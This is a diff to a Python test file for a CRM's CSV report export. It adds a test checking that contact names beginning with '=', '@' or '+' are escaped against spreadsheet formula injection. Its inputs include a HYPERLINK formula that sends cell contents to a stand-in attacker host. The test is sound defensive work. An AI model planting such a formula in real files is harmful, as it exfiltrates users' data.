@@ -9,6 +9,7 @@ from datetime import UTC, datetime, timedelta
 
 from bson import ObjectId
 
+from crm_core import reporting
 from hub.listeners import ListenerLoop
 from hub.metrics import Metrics
 from tests.conftest import chat_message
@@ -164,7 +165,7 @@ async def test_csv_export_of_a_period(hub):
     async with hub.client.get("/api/v1/reports/export.csv?from=2026-01-05&to=2026-01-05",
                               headers={"Authorization": f"Bearer {manager}"}) as resp:  # fmt: skip
         assert resp.status == 200 and resp.content_type == "text/csv"
-        rows = list(csv.DictReader(io.StringIO(await resp.text())))
+        rows = _sheet(await resp.read())
     assert [r["id"] for r in rows] == [ids["a"], ids["b"], ids["c"]]
     assert rows[0]["status"] == "resolved" and float(rows[0]["resolution_seconds"]) == 3600
     assert float(rows[1]["first_response_seconds"]) == 1800 and rows[1]["resolution_seconds"] == ""
@@ -193,13 +194,48 @@ async def test_response_and_resolution_times_by_channel_and_intent(hub):
     assert (await hub.call("GET", "/api/v1/reports/times", agent))[0] == 403
 
 
+def _sheet(body: bytes) -> list[dict[str, str]]:
+    """The rows as a spreadsheet reads them: UTF-8 after a byte order mark, which Excel needs to
+    read Chinese names as Chinese."""
+    assert body.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+async def test_csv_export_streams_chunks_that_spreadsheets_read_as_text(hub, monkeypatch):
+    monkeypatch.setattr(reporting, "EXPORT_CHUNK_ROWS", 2)
+    names = [
+        "王小明",
+        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+        "@SUM(A1:A9)",
+        "-",
+        "+86 138",
+        "Ana",
+    ]
+    ids = []
+    for n, name in enumerate(names):
+        ack = await (
+            await hub.chat(chat_message(f"question {n}", sender={"id": f"s{n}", "name": name, "email": None}))
+        ).json()
+        ids.append(ack["conversation_id"])
+    manager = await hub.login("manager")
+    async with hub.client.get(
+        "/api/v1/reports/export.csv", headers={"Authorization": f"Bearer {manager}"}
+    ) as resp:
+        assert resp.status == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
+        rows = _sheet(await resp.read())
+    assert [r["id"] for r in rows] == ids  # three chunks, each row once, in order
+    assert [r["contact_name"] for r in rows] == [
+        "王小明", '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")', "'@SUM(A1:A9)", "-", "'+86 138", "Ana"
+    ]  # fmt: skip
+
+
 async def test_daily_csv_reads_the_rollups(hub):
     await _build_day(hub)
     manager = await hub.login("manager")
     async with hub.client.get("/api/v1/reports/daily.csv?from=2026-01-04&to=2026-01-05",
                               headers={"Authorization": f"Bearer {manager}"}) as resp:  # fmt: skip
         assert resp.status == 200 and resp.content_type == "text/csv"
-        rows = list(csv.DictReader(io.StringIO(await resp.text())))
+        rows = _sheet(await resp.read())
     by_day = {(r["day"], r["channel"]): r for r in rows}
     assert set(by_day) == {("2026-01-04", "chat"), ("2026-01-05", "chat")}
     day = by_day[("2026-01-05", "chat")]
